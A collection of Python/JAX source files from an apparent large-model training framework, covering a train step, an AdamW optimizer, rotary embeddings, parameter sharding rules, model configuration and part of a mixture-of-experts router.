    B, S = inp.shape
    pos = jnp.broadcast_to(jnp.arange(S)[None], (B, S))
    hidden, _, aux = forward(cfg, params, inp, positions=pos, mode="train",
                             extras=extras, remat=True)
    xent = chunked_xent(cfg, params, hidden, labels)
    coef = cfg.moe.router_aux_coef if cfg.moe is not None else 0.0
    return xent + coef * aux / max(cfg.num_layers, 1), (xent, aux)


def make_train_step(cfg: ModelConfig, opt_cfg: AdamWConfig,
                    microbatches: int = 1):
    """batch['tokens']: [microbatches, b, S+1] when microbatches > 1,
    else [B, S+1].  Any other batch keys (patch_embeds / vision_mask /
    mrope_positions / encoder_frames) are modality extras with the same
    leading layout and are threaded into the loss."""

    def train_step(params, opt_state: OptState, batch):
        tokens = batch["tokens"]
        extras = {k: v for k, v in batch.items() if k != "tokens"}
        if microbatches > 1:
            assert tokens.ndim == 3 and tokens.shape[0] == microbatches

            def micro(acc, xs):
                toks, ex = xs
                (l, (xe, aux)), g = jax.value_and_grad(
                    lambda p: loss_fn(cfg, p, toks, extras=ex or None),
                    has_aux=True)(params)
                acc_g, acc_l = acc
                acc_g = jax.tree.map(jnp.add, acc_g, g)
                return (acc_g, acc_l + l), None

            zero_g = jax.tree.map(
                lambda p: jnp.zeros(p.shape, jnp.float32), params)
            (grads, tot_l), _ = jax.lax.scan(
                micro, (zero_g, jnp.zeros((), jnp.float32)),
                (tokens, extras))
            grads = jax.tree.map(lambda g: g / microbatches, grads)
            loss = tot_l / microbatches
        else:
            (loss, (xe, aux)), grads = jax.value_and_grad(
                lambda p: loss_fn(cfg, p, tokens, extras=extras or None),
                has_aux=True)(params)
        params, opt_state, stats = adamw_update(
            opt_cfg, params, grads, opt_state)
        stats = dict(stats, loss=loss)
        return params, opt_state, stats

    return train_step


def make_eval_step(cfg: ModelConfig):
    def eval_step(params, batch):
        loss, (xe, aux) = loss_fn(cfg, params, batch["tokens"])
        return {"loss": loss, "xent": xe}
    return eval_step
