"""AdamW + LR schedule + grad clipping (no optax offline — own pytrees).

Optimizer state is a pytree mirroring params (m, v in fp32), so the same
logical-axis PartitionSpecs shard it (ZeRO-style when the embed rule maps to
the FSDP axes).
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import NamedTuple

import jax
import jax.numpy as jnp


@dataclass(frozen=True)
class AdamWConfig:
    lr: float = 3e-4
    beta1: float = 0.9
    beta2: float = 0.95
    eps: float = 1e-8
    weight_decay: float = 0.1
    grad_clip: float = 1.0
    warmup_steps: int = 100
    total_steps: int = 10_000
    min_lr_ratio: float = 0.1


class OptState(NamedTuple):
    step: jax.Array
    m: dict
    v: dict


def lr_at(cfg: AdamWConfig, step):
    step = step.astype(jnp.float32) if hasattr(step, "astype") else float(step)
    warm = cfg.lr * (step + 1) / max(cfg.warmup_steps, 1)
    prog = jnp.clip((step - cfg.warmup_steps)
                    / max(cfg.total_steps - cfg.warmup_steps, 1), 0.0, 1.0)
    cos = cfg.min_lr_ratio + (1 - cfg.min_lr_ratio) * 0.5 * (
        1 + jnp.cos(jnp.pi * prog))
    return jnp.minimum(warm, cfg.lr * cos)


def init_opt_state(params) -> OptState:
    zeros = jax.tree.map(lambda p: jnp.zeros(p.shape, jnp.float32), params)
    return OptState(jnp.zeros((), jnp.int32), zeros,
                    jax.tree.map(jnp.copy, zeros))


def global_norm(tree) -> jax.Array:
    leaves = jax.tree.leaves(tree)
    return jnp.sqrt(sum(jnp.sum(jnp.square(l.astype(jnp.float32)))
                        for l in leaves))


def adamw_update(cfg: AdamWConfig, params, grads, state: OptState):
    """Returns (new_params, new_state, stats)."""
    gnorm = global_norm(grads)
    scale = jnp.minimum(1.0, cfg.grad_clip / (gnorm + 1e-9))
    step = state.step + 1
    lr = lr_at(cfg, state.step)
    b1, b2 = cfg.beta1, cfg.beta2
    bc1 = 1 - b1 ** step.astype(jnp.float32)
    bc2 = 1 - b2 ** step.astype(jnp.float32)

    def upd(p, g, m, v):
        g = g.astype(jnp.float32) * scale
        m = b1 * m + (1 - b1) * g
        v = b2 * v + (1 - b2) * jnp.square(g)
        mh = m / bc1
        vh = v / bc2
        delta = mh / (jnp.sqrt(vh) + cfg.eps)
        if p.ndim >= 2:            # no decay on norms/biases/scalars
            delta = delta + cfg.weight_decay * p.astype(jnp.float32)
        return (p.astype(jnp.float32) - lr * delta).astype(p.dtype), m, v

    flat_p, tdef = jax.tree.flatten(params)
    flat_g = tdef.flatten_up_to(grads)
    flat_m = tdef.flatten_up_to(state.m)
    flat_v = tdef.flatten_up_to(state.v)
    out = [upd(p, g, m, v) for p, g, m, v
           in zip(flat_p, flat_g, flat_m, flat_v)]
    new_p = tdef.unflatten([o[0] for o in out])
    new_m = tdef.unflatten([o[1] for o in out])
    new_v = tdef.unflatten([o[2] for o in out])
    return new_p, OptState(step, new_m, new_v), {
        "grad_norm": gnorm, "lr": lr}
