from repro.train.optimizer import (  # noqa: F401
    AdamWConfig, OptState, adamw_update, init_opt_state, lr_at)
from repro.train.trainer import loss_fn, make_eval_step, make_train_step  # noqa: F401
