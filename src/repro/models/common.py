"""Shared numerics: norms, activations, rotary embeddings (incl. M-RoPE)."""
from __future__ import annotations

from typing import Optional

import jax
import jax.numpy as jnp


def rms_norm(x, scale, eps: float = 1e-5):
    dt = x.dtype
    x32 = x.astype(jnp.float32)
    var = jnp.mean(jnp.square(x32), axis=-1, keepdims=True)
    return (x32 * jax.lax.rsqrt(var + eps)).astype(dt) * scale


def act_fn(name: str):
    return {"silu": jax.nn.silu, "gelu": jax.nn.gelu}[name]


# ---------------------------------------------------------------------------
# Rotary embeddings
# ---------------------------------------------------------------------------

def rope_freqs(head_dim: int, theta: float):
    half = head_dim // 2
    return 1.0 / (theta ** (jnp.arange(half, dtype=jnp.float32) / half))


def apply_rope(x, positions, theta: float,
               mrope_sections: Optional[tuple[int, int, int]] = None):
    """Rotate ``x`` [B, S, H, hd] by ``positions``.

    positions: [B, S] int32, or [B, S, 3] for M-RoPE (t/h/w ids); with
    ``mrope_sections`` the per-frequency position id is chosen by section
    (Qwen2-VL multimodal rotary embedding, arXiv:2409.12191).
    """
    half = x.shape[-1] // 2
    inv = rope_freqs(x.shape[-1], theta)                    # [half]
    if mrope_sections is not None:
        assert positions.ndim == 3, "M-RoPE needs [B,S,3] position ids"
        sec = jnp.concatenate([
            jnp.full((n,), i, jnp.int32)
            for i, n in enumerate(mrope_sections)])          # [half]
        pos = jnp.take_along_axis(
            positions, jnp.broadcast_to(
                sec[None, None, :], positions.shape[:2] + (half,)), axis=-1)
        ang = pos.astype(jnp.float32) * inv                  # [B,S,half]
    else:
        if positions.ndim == 3:
            positions = positions[..., 0]
        ang = positions.astype(jnp.float32)[..., None] * inv  # [B,S,half]
    cos = jnp.cos(ang)[:, :, None, :]
    sin = jnp.sin(ang)[:, :, None, :]
    x1, x2 = x[..., :half], x[..., half:]
    dt = x.dtype
    x1f, x2f = x1.astype(jnp.float32), x2.astype(jnp.float32)
    return jnp.concatenate(
        [x1f * cos - x2f * sin, x2f * cos + x1f * sin], axis=-1).astype(dt)


def causal_conv1d(x, w, state=None, lengths=None):
    """Depthwise causal conv.  x [B,S,C], w [K,C]; state [B,K-1,C] or None.

    ``lengths`` [B] gives each row's valid token count when ``x`` is
    right-padded: the returned state is then the K-1 columns ending at
    ``lengths`` (the stream window a resumed prefill/decode would see),
    not the padded tail.

    Returns (y [B,S,C], new_state [B,K-1,C]).
    """
    k = w.shape[0]
    if state is None:
        state = jnp.zeros((x.shape[0], k - 1, x.shape[-1]), x.dtype)
    xp = jnp.concatenate([state, x], axis=1)                 # [B,S+K-1,C]
    y = sum(xp[:, i:i + x.shape[1], :] * w[i][None, None, :]
            for i in range(k))
    if k <= 1:
        new_state = state
    elif lengths is None:
        new_state = xp[:, -(k - 1):, :]
    else:
        idx = lengths[:, None] + jnp.arange(k - 1)[None, :]  # [B,K-1]
        new_state = jnp.take_along_axis(xp, idx[:, :, None], axis=1)
    return y, new_state
