"""Parameter definition system.

Every parameter is declared once as a ``ParamDef`` carrying its shape and
*logical dimension names* (``embed``, ``heads``, ``mlp``, ``experts``, ...).
From one definition pytree we derive:

  * ``materialize``      — real initialized arrays (smoke tests / examples),
  * ``abstract``         — ``jax.ShapeDtypeStruct`` stand-ins (dry-run: no
                           allocation, mandatory for the 405B configs),
  * ``pspecs``           — ``PartitionSpec`` per parameter from a logical→mesh
                           rule table with divisibility-checked degradation.
"""
from __future__ import annotations

import contextlib
import dataclasses
from dataclasses import dataclass
from typing import Callable, Optional

import jax
import jax.numpy as jnp
import numpy as np
from jax.sharding import Mesh, NamedSharding, PartitionSpec as P


@dataclass(frozen=True)
class ParamDef:
    shape: tuple[int, ...]
    dims: tuple[str, ...]          # logical name per dimension
    init: str = "normal"           # normal | zeros | ones | scaled
    scale: Optional[float] = None  # stddev override for normal init
    dtype: str = "param"           # resolved via dtype map
    kind: str = ""                 # cache-leaf kind ("" for weights)

    def __post_init__(self):
        assert len(self.shape) == len(self.dims), (self.shape, self.dims)


def is_def(x) -> bool:
    return isinstance(x, ParamDef)


def tree_map_defs(f: Callable, defs, *rest):
    return jax.tree.map(f, defs, *rest, is_leaf=is_def)


# ---------------------------------------------------------------------------
# materialization
# ---------------------------------------------------------------------------

def materialize(defs, key, param_dtype=jnp.float32):
    leaves, treedef = jax.tree.flatten(defs, is_leaf=is_def)
    keys = jax.random.split(key, len(leaves))

    def one(d: ParamDef, k):
        if d.init == "zeros":
            return jnp.zeros(d.shape, param_dtype)
        if d.init == "ones":
            return jnp.ones(d.shape, param_dtype)
        if d.init == "ssm_a_log":
            # A in [1, 16): A_log = log(uniform)
            u = jax.random.uniform(k, d.shape, jnp.float32, 1.0, 16.0)
            return jnp.log(u).astype(param_dtype)
        if d.init == "dt_bias":
            u = jax.random.uniform(k, d.shape, jnp.float32, 1e-3, 1e-1)
            inv_softplus = u + jnp.log(-jnp.expm1(-u))
            return inv_softplus.astype(param_dtype)
        fan_in = d.shape[-2] if len(d.shape) >= 2 else d.shape[-1]
        std = d.scale if d.scale is not None else 1.0 / np.sqrt(max(fan_in, 1))
        return (std * jax.random.normal(k, d.shape, jnp.float32)).astype(
            param_dtype)

    return jax.tree.unflatten(treedef, [one(d, k) for d, k in zip(leaves, keys)])


def abstract(defs, param_dtype=jnp.bfloat16, shardings=None):
    if shardings is None:
        return tree_map_defs(
            lambda d: jax.ShapeDtypeStruct(d.shape, param_dtype), defs)
    return jax.tree.map(
        lambda d, s: jax.ShapeDtypeStruct(d.shape, param_dtype, sharding=s),
        defs, shardings, is_leaf=is_def)


# ---------------------------------------------------------------------------
# logical → mesh rules
# ---------------------------------------------------------------------------

# Each rule maps a logical dim to a tuple of mesh axes (tried greedily; an
# axis is dropped when the dim isn't divisible by the group or the axis is
# already taken by an earlier dim of the same tensor).
Rules = dict[str, tuple[str, ...]]

TRAIN_RULES: Rules = {
    "batch":     ("pod", "data"),
    "act_seq":   (),                 # perf knob: sequence parallelism
    "embed":     ("pipe", "data"),   # FSDP group (pods replicate params)
    "heads":     ("tensor",),
    "kv_heads":  ("tensor",),
    "mlp":       ("tensor",),
    "vocab":     ("tensor",),
    "experts":   ("tensor",),
    "ssm_heads": ("tensor",),
    "d_inner":   ("tensor",),
    "conv_dim":  ("tensor",),
    "cache_seq": (),
    "lora":      (),
}

# Beyond-paper optimized training layout (EXPERIMENTS.md §Perf): model dim
# over `tensor` (matches the contraction axis of most matmuls — halves the
# bytes-accessed term on dense and MoE models) and MoE experts over the
# 32-wide pipe x data group (expert parallelism: per-device expert
# weight/optimizer/dispatch traffic drops by the EP degree).  Confirmed on
# deepseek-v2-236b (useful 0.032 -> 0.185) and jamba-1.5-large-398b
# (collective term 1437s -> 685s).
TRAIN_RULES_EP: Rules = dict(
    TRAIN_RULES,
    embed=("tensor",),
    vocab=("pipe", "data"),
    experts=("pipe", "data"),
)

SERVE_RULES: Rules = {
    "batch":     ("pod", "data"),
    "act_seq":   (),
    "embed":     ("pipe",),          # 2D weight sharding: pipe x tensor
    "heads":     ("tensor",),
    "kv_heads":  ("tensor",),
    "mlp":       ("tensor",),
    "vocab":     ("tensor",),
    "experts":   ("tensor",),
    "ssm_heads": ("tensor",),
    "d_inner":   ("tensor",),
    "conv_dim":  ("tensor",),
    "cache_seq": ("pipe",),          # decode KV cache sharded along context
    "lora":      (),
}


def spec_for(dims: tuple[str, ...], shape: tuple[int, ...], mesh: Mesh,
             rules: Rules) -> P:
    """Build a PartitionSpec, degrading gracefully on divisibility/conflicts."""
    taken: set[str] = set()
    out = []
    for dim_name, size in zip(dims, shape):
        axes = [a for a in rules.get(dim_name, ())
                if a in mesh.shape and a not in taken]
        # greedily keep the longest prefix whose product divides the dim
        while axes:
            group = int(np.prod([mesh.shape[a] for a in axes]))
            if size % group == 0:
                break
            axes.pop()
        if axes:
            taken.update(axes)
            out.append(tuple(axes) if len(axes) > 1 else axes[0])
        else:
            out.append(None)
    while out and out[-1] is None:
        out.pop()
    return P(*out)


def pspecs(defs, mesh: Mesh, rules: Rules):
    return tree_map_defs(lambda d: spec_for(d.dims, d.shape, mesh, rules), defs)


def shardings(defs, mesh: Mesh, rules: Rules):
    return tree_map_defs(
        lambda d: NamedSharding(mesh, spec_for(d.dims, d.shape, mesh, rules)),
        defs)


# ---------------------------------------------------------------------------
# deterministic tensor-parallel serving (DESIGN.md §Tensor-parallel serving)
# ---------------------------------------------------------------------------

# Serving TP must be *bitwise* reproducible across tp degrees: replicas
# with different geometry serve the same fleet, and prefix-cache reuse,
# speculative verify, and cross-replica stream migration all assume a token
# stream is a pure function of (weights, prompt, seed).  The classic
# Megatron layout (row-sharded wo/w_down finished by a psum) changes the
# reduction association and drifts by a few ulps per layer — and XLA:CPU's
# GEMM kernels pick different per-element accumulation orders for different
# local shapes, so even column-only sharding is not shape-stable.  What IS
# exact is (a) data movement — slice-on-write, all-gather — and (b) einsums
# whose *sharded* dims are pure batch dims (every output element's reduction
# runs over replicated axes with full-size operands).
#
# The serving layout therefore shards *storage* and batch-dim compute only:
#   * weights shard at rest via SERVE_RULES and are gathered on use
#     (``tp_replicate`` at the layer body), so every projection GEMM runs
#     with full tp=1 shapes — exact by construction;
#   * MoE expert weights skip the gather: the expert dim batches their
#     einsums, giving true expert-parallel compute (all-to-all-free — the
#     router runs replicated, the combine all-gathers expert outputs);
#   * paged KV pools shard over kv_heads (TP_CACHE_RULES); attention
#     score/PV einsums batch over that dim, giving true tensor-parallel
#     attention compute.  ``spec_for``'s divisibility degradation doubles
#     as the GQA head-replication rule: n_kv_heads % tp != 0 -> replicate.
TP_CACHE_RULES: Rules = {
    "kv_heads": ("tensor",),
}


# The active tensor-parallel mesh, consulted by ``tp_replicate`` at *trace*
# time.  The engine enters ``tp_mesh_scope`` around every traced call; with
# no scope active (tp=1, training, plain tests) the constraint is a no-op
# and the graph is byte-for-byte the single-device graph.
_TP_MESH: Optional[Mesh] = None


@contextlib.contextmanager
def tp_mesh_scope(mesh: Optional[Mesh]):
    global _TP_MESH
    prev, _TP_MESH = _TP_MESH, mesh
    try:
        yield
    finally:
        _TP_MESH = prev


def tp_replicate(x):
    """All-gather a tensor-sharded array back to replicated.

    Two uses: gathering storage-sharded weights to full shape before their
    GEMMs (exact — gather is concatenation, the GEMM then matches tp=1
    bit-for-bit), and gathering batch-sharded activations (attention
    context, MoE expert outputs) before an order-sensitive consumer.
    Without the explicit constraint GSPMD partitions the contraction and
    finishes with an order-sensitive psum.
    """
    mesh = _TP_MESH
    if mesh is None or mesh.shape.get("tensor", 1) == 1:
        return x
    return jax.lax.with_sharding_constraint(x, NamedSharding(mesh, P()))


def tp_gather_params(p, keep: frozenset = frozenset()):
    """Gather a (sub)tree of storage-sharded weights for use; leaves whose
    key is in ``keep`` stay sharded (expert weights: their einsums batch
    over the expert dim, so sharded compute is still exact)."""
    if _TP_MESH is None or _TP_MESH.shape.get("tensor", 1) == 1:
        return p
    if isinstance(p, dict):
        return {k: (v if k in keep else tp_gather_params(v, keep)) for k, v
                in p.items()}
    return tp_replicate(p)


def stack(defs, n: int, dim_name: str = "layers"):
    """Prepend a stacked (scanned) leading dim to every ParamDef in a tree."""
    return tree_map_defs(
        lambda d: dataclasses.replace(
            d, shape=(n, *d.shape), dims=(dim_name, *d.dims)), defs)


def logical_constraint(x, dims: tuple[str, ...], mesh: Mesh, rules: Rules):
    """with_sharding_constraint by logical dim names (no-op off-mesh)."""
    if mesh is None:
        return x
    spec = spec_for(dims, x.shape, mesh, rules)
    return jax.lax.with_sharding_constraint(x, NamedSharding(mesh, spec))
