"""Parameter definition system.

Every parameter is declared once as a ``ParamDef`` carrying its shape and
*logical dimension names* (``embed``, ``heads``, ``mlp``, ``experts``, ...).
From one definition pytree we derive:

  * ``materialize``      — real initialized arrays (smoke tests / examples),
  * ``abstract``         — ``jax.ShapeDtypeStruct`` stand-ins (dry-run: no
                           allocation, mandatory for the 405B configs),
  * ``pspecs``           — ``PartitionSpec`` per parameter from a logical→mesh
                           rule table with divisibility-checked degradation.
"""
from __future__ import annotations

import dataclasses
from dataclasses import dataclass
from typing import Callable, Optional

import jax
import jax.numpy as jnp
import numpy as np
from jax.sharding import Mesh, NamedSharding, PartitionSpec as P


@dataclass(frozen=True)
class ParamDef:
    shape: tuple[int, ...]
    dims: tuple[str, ...]          # logical name per dimension
    init: str = "normal"           # normal | zeros | ones | scaled
    scale: Optional[float] = None  # stddev override for normal init
    dtype: str = "param"           # resolved via dtype map
    kind: str = ""                 # cache-leaf kind ("" for weights)

    def __post_init__(self):
        assert len(self.shape) == len(self.dims), (self.shape, self.dims)


def is_def(x) -> bool:
    return isinstance(x, ParamDef)


def tree_map_defs(f: Callable, defs, *rest):
    return jax.tree.map(f, defs, *rest, is_leaf=is_def)


# ---------------------------------------------------------------------------
# materialization
# ---------------------------------------------------------------------------

def materialize(defs, key, param_dtype=jnp.float32):
    leaves, treedef = jax.tree.flatten(defs, is_leaf=is_def)
    keys = jax.random.split(key, len(leaves))

    def one(d: ParamDef, k):
        if d.init == "zeros":
            return jnp.zeros(d.shape, param_dtype)
        if d.init == "ones":
            return jnp.ones(d.shape, param_dtype)
        if d.init == "ssm_a_log":
            # A in [1, 16): A_log = log(uniform)
            u = jax.random.uniform(k, d.shape, jnp.float32, 1.0, 16.0)
            return jnp.log(u).astype(param_dtype)
        if d.init == "dt_bias":
            u = jax.random.uniform(k, d.shape, jnp.float32, 1e-3, 1e-1)
            inv_softplus = u + jnp.log(-jnp.expm1(-u))
            return inv_softplus.astype(param_dtype)
        fan_in = d.shape[-2] if len(d.shape) >= 2 else d.shape[-1]
        std = d.scale if d.scale is not None else 1.0 / np.sqrt(max(fan_in, 1))
        return (std * jax.random.normal(k, d.shape, jnp.float32)).astype(
            param_dtype)

    return jax.tree.unflatten(treedef, [one(d, k) for d, k in zip(leaves, keys)])


def abstract(defs, param_dtype=jnp.bfloat16, shardings=None):
    if shardings is None:
        return tree_map_defs(
            lambda d: jax.ShapeDtypeStruct(d.shape, param_dtype), defs)
    return jax.tree.map(
        lambda d, s: jax.ShapeDtypeStruct(d.shape, param_dtype, sharding=s),
        defs, shardings, is_leaf=is_def)


# ---------------------------------------------------------------------------
# logical → mesh rules
# ---------------------------------------------------------------------------

# Each rule maps a logical dim to a tuple of mesh axes (tried greedily; an
# axis is dropped when the dim isn't divisible by the group or the axis is
# already taken by an earlier dim of the same tensor).
Rules = dict[str, tuple[str, ...]]

TRAIN_RULES: Rules = {
    "batch":     ("pod", "data"),
    "act_seq":   (),                 # perf knob: sequence parallelism
    "embed":     ("pipe", "data"),   # FSDP group (pods replicate params)
    "heads":     ("tensor",),
    "kv_heads":  ("tensor",),
    "mlp":       ("tensor",),
    "vocab":     ("tensor",),
    "experts":   ("tensor",),
    "ssm_heads": ("tensor",),
    "d_inner":   ("tensor",),
    "conv_dim":  ("tensor",),
    "cache_seq": (),
    "lora":      (),
}

# Beyond-paper optimized training layout (EXPERIMENTS.md §Perf): model dim
# over `tensor` (matches the contraction axis of most matmuls — halves the
# bytes-accessed term on dense and MoE models) and MoE experts over the
# 32-wide pipe x data group (expert parallelism: per-device expert
# weight/optimizer/dispatch traffic drops by the EP degree).  Confirmed on
# deepseek-v2-236b (useful 0.032 -> 0.185) and jamba-1.5-large-398b
# (collective term 1437s -> 685s).
TRAIN_RULES_EP: Rules = dict(
    TRAIN_RULES,
    embed=("tensor",),
    vocab=("pipe", "data"),
    experts=("pipe", "data"),
)

SERVE_RULES: Rules = {
    "batch":     ("pod", "data"),
    "act_seq":   (),
    "embed":     ("pipe",),          # 2D weight sharding: pipe x tensor
    "heads":     ("tensor",),
    "kv_heads":  ("tensor",),
    "mlp":       ("tensor",),
    "vocab":     ("tensor",),
    "experts":   ("tensor",),
    "ssm_heads": ("tensor",),
    "d_inner":   ("tensor",),
    "conv_dim":  ("tensor",),
    "cache_seq": ("pipe",),          # decode KV cache sharded along context
    "lora":      (),
}


def spec_for(dims: tuple[str, ...], shape: tuple[int, ...], mesh: Mesh,
             rules: Rules) -> P:
    """Build a PartitionSpec, degrading gracefully on divisibility/conflicts."""
    taken: set[str] = set()
    out = []
    for dim_name, size in zip(dims, shape):
        axes = [a for a in rules.get(dim_name, ())
                if a in mesh.shape and a not in taken]
        # greedily keep the longest prefix whose product divides the dim
        while axes:
            group = int(np.prod([mesh.shape[a] for a in axes]))
            if size % group == 0:
                break
            axes.pop()
        if axes:
            taken.update(axes)
            out.append(tuple(axes) if len(axes) > 1 else axes[0])
        else:
            out.append(None)
    while out and out[-1] is None:
        out.pop()
    return P(*out)


def pspecs(defs, mesh: Mesh, rules: Rules):
    return tree_map_defs(lambda d: spec_for(d.dims, d.shape, mesh, rules), defs)


def shardings(defs, mesh: Mesh, rules: Rules):
    return tree_map_defs(
        lambda d: NamedSharding(mesh, spec_for(d.dims, d.shape, mesh, rules)),
        defs)


def stack(defs, n: int, dim_name: str = "layers"):
    """Prepend a stacked (scanned) leading dim to every ParamDef in a tree."""
    return tree_map_defs(
        lambda d: dataclasses.replace(
            d, shape=(n, *d.shape), dims=(dim_name, *d.dims)), defs)


def logical_constraint(x, dims: tuple[str, ...], mesh: Mesh, rules: Rules):
    """with_sharding_constraint by logical dim names (no-op off-mesh)."""
    if mesh is None:
        return x
    spec = spec_for(dims, x.shape, mesh, rules)
    return jax.lax.with_sharding_constraint(x, NamedSharding(mesh, spec))
