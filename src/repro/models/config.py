"""Model configuration for every architecture family the framework serves.

A ``ModelConfig`` fully describes a decoder (or encoder-decoder) transformer
variant: dense GQA, MLA, MoE, Mamba2/SSD, hybrid interleaves, VLM and audio
backbones.  Layer stacks are expressed as a repeating *period* of sub-layer
specs so the forward pass can ``lax.scan`` over identical blocks and keep the
lowered HLO size independent of depth (essential for the 126-layer dry-runs).
"""
from __future__ import annotations

import dataclasses
from dataclasses import dataclass, field
from typing import Optional


def _round_up(x: int, m: int) -> int:
    return ((x + m - 1) // m) * m


@dataclass(frozen=True)
class MoEConfig:
    num_experts: int
    top_k: int
    d_ff_expert: int
    num_shared_experts: int = 0
    capacity_factor: float = 1.25
    router_aux_coef: float = 0.01
    # softmax-then-topk (deepseek style) vs topk-then-softmax (mixtral style)
    normalize_topk: bool = True


@dataclass(frozen=True)
class MLAConfig:
    """DeepSeek-V2 Multi-head Latent Attention."""
    kv_lora_rank: int = 512
    q_lora_rank: int = 1536
    qk_rope_dim: int = 64
    qk_nope_dim: int = 128
    v_head_dim: int = 128


@dataclass(frozen=True)
class SSMConfig:
    """Mamba2 / SSD mixer."""
    d_state: int = 128
    d_conv: int = 4
    expand: int = 2
    head_dim: int = 64
    n_groups: int = 1
    chunk_size: int = 256


@dataclass(frozen=True)
class SubLayer:
    """One (mixer, ffn) sub-layer inside the repeating period."""
    mixer: str           # 'attn' | 'mamba'
    ffn: Optional[str]   # 'dense' | 'moe' | None


@dataclass(frozen=True)
class ModelConfig:
    name: str
    family: str                  # dense | moe | vlm | ssm | audio | hybrid
    num_layers: int
    d_model: int
    num_heads: int
    num_kv_heads: int
    d_ff: int
    vocab_size: int
    head_dim: int = 0            # 0 -> d_model // num_heads

    # layer stack structure
    prefix: tuple[SubLayer, ...] = ()     # unrolled leading layers
    period: tuple[SubLayer, ...] = (SubLayer("attn", "dense"),)

    # attention details
    rope_theta: float = 10_000.0
    qk_norm: bool = False
    sliding_window: Optional[int] = None  # tokens; None = full causal
    mrope_sections: Optional[tuple[int, int, int]] = None  # qwen2-vl M-RoPE
    use_rope: bool = True                 # whisper uses learned pos-emb
    max_position_embeddings: int = 1_048_576

    # optional sub-configs
    moe: Optional[MoEConfig] = None
    mla: Optional[MLAConfig] = None
    ssm: Optional[SSMConfig] = None

    # encoder-decoder (audio) / multimodal (vision)
    cross_attention: bool = False
    num_encoder_frames: int = 0           # whisper: 1500 stub frames
    vision_embed_dim: int = 0             # qwen2-vl: stub patch-embed width

    tie_embeddings: bool = False
    norm_eps: float = 1e-5
    act: str = "silu"                     # silu (gated) | gelu (plain)
    citation: str = ""

    # ----- derived -----
    @property
    def resolved_head_dim(self) -> int:
        return self.head_dim or (self.d_model // self.num_heads)

    @property
    def padded_vocab(self) -> int:
        """Vocab padded so it shards cleanly over the tensor axis."""
        return _round_up(self.vocab_size, 128)

    @property
    def n_blocks(self) -> int:
        """Number of scanned period repetitions."""
        body = self.num_layers - len(self.prefix)
        assert body % len(self.period) == 0, (
            f"{self.name}: {body} body layers not divisible by period "
            f"{len(self.period)}")
        return body // len(self.period)

    @property
    def is_attention_free(self) -> bool:
        layers = self.prefix + self.period
        return all(sl.mixer != "attn" for sl in layers)

    @property
    def has_ssm(self) -> bool:
        layers = self.prefix + self.period
        return any(sl.mixer == "mamba" for sl in layers)

    @property
    def d_inner(self) -> int:
        assert self.ssm is not None
        return self.ssm.expand * self.d_model

    @property
    def ssm_heads(self) -> int:
        assert self.ssm is not None
        return self.d_inner // self.ssm.head_dim

    def with_(self, **kw) -> "ModelConfig":
        return dataclasses.replace(self, **kw)

    # ----- parameter counting (for roofline MODEL_FLOPS) -----
    def param_counts(self) -> dict:
        """Returns {'total': N, 'active': N_active} parameter counts."""
        D, V = self.d_model, self.padded_vocab
        hd = self.resolved_head_dim
        H, KV = self.num_heads, self.num_kv_heads

        def attn_params() -> int:
            if self.mla is not None:
                m = self.mla
                qk = m.qk_rope_dim + m.qk_nope_dim
                n = D * m.q_lora_rank + m.q_lora_rank * H * qk      # q down/up
                n += D * (m.kv_lora_rank + m.qk_rope_dim)           # kv down
                n += m.kv_lora_rank * H * (m.qk_nope_dim + m.v_head_dim)
                n += H * m.v_head_dim * D                           # out
                return n
            n = D * (H * hd) + 2 * D * (KV * hd) + (H * hd) * D
            if self.cross_attention:   # separate cross-attn projections
                n *= 2
            return n

        def mamba_params() -> int:
            s = self.ssm
            di = self.d_inner
            nh = self.ssm_heads
            n = D * (2 * di + 2 * s.n_groups * s.d_state + nh)  # in_proj
            n += s.d_conv * (di + 2 * s.n_groups * s.d_state)   # conv
            n += nh * 2 + di                                    # A, D, dt_bias
            n += di * D                                         # out_proj
            return n

        def ffn_params(kind: Optional[str]) -> tuple[int, int]:
            gate = 3 if self.act == "silu" else 2
            if kind is None:
                return 0, 0
            if kind == "dense":
                n = gate * D * self.d_ff
                return n, n
            m = self.moe
            per = gate * D * m.d_ff_expert
            total = m.num_experts * per + m.num_shared_experts * per
            total += D * m.num_experts                  # router
            active = (m.top_k + m.num_shared_experts) * per + D * m.num_experts
            return total, active

        total = active = 0
        for sl in self.prefix + tuple(
                sl for _ in range(self.n_blocks) for sl in self.period):
            mx = attn_params() if sl.mixer == "attn" else mamba_params()
            ft, fa = ffn_params(sl.ffn)
            total += mx + ft + 2 * D      # two rmsnorm scales
            active += mx + fa + 2 * D
        emb = V * D * (1 if self.tie_embeddings else 2)
        total += emb + D
        active += emb + D
        return {"total": total, "active": active}
