"""Mixture-of-Experts FFN with sort-based (dropless-ish) token dispatch.

Tokens are routed top-k, ranked within their expert via an argsort, and
scattered into a per-expert capacity buffer; expert FFNs are batched einsums
over [E, C, D].  Compute therefore scales with *active* tokens (x capacity
factor), not with num_experts — a dense one-hot dispatch einsum would count
T·E·C·D FLOPs and wreck the roofline for the 160-expert configs.
Tokens overflowing an expert's capacity are dropped (GShard semantics).
"""
from __future__ import annotations

import jax
import jax.numpy as jnp

from repro.models.common import act_fn
from repro.models.params import tp_replicate


def router(x2d, w_router, cfg_moe):
    """x2d [T, D] -> (weights [T,K], idx [T,K], aux_loss scalar)."""
    # expert-sharded router: gather the routing logits so softmax/top-k see
    # the full expert axis on every device (the dispatch below is then
    # all-to-all-free — routing is computed replicated, experts run local)
    logits = tp_replicate(
        x2d.astype(jnp.float32) @ w_router.astype(jnp.float32))
    probs = jax.nn.softmax(logits, axis=-1)                   # [T,E]
    top_p, top_i = jax.lax.top_k(probs, cfg_moe.top_k)
    if cfg_moe.normalize_topk:
        top_p = top_p / jnp.maximum(top_p.sum(-1, keepdims=True), 1e-9)
    # Switch-style load-balance aux loss: E * sum_e f_e * P_e
    E = probs.shape[-1]
    one_hot = jax.nn.one_hot(top_i[:, 0], E, dtype=jnp.float32)
    f = one_hot.mean(0)
    P = probs.mean(0)
    aux = E * jnp.sum(f * P)
    return top_p, top_i, aux


def _expert_slots(flat_e, num_experts):
    """Rank of each routed token within its expert (stable)."""
    n = flat_e.shape[0]
    order = jnp.argsort(flat_e, stable=True)
    sorted_e = flat_e[order]
    idx = jnp.arange(n)
    is_start = jnp.concatenate(
        [jnp.ones((1,), bool), sorted_e[1:] != sorted_e[:-1]])
    run_start = jax.lax.associative_scan(jnp.maximum,
                                         jnp.where(is_start, idx, 0))
    slot_sorted = idx - run_start
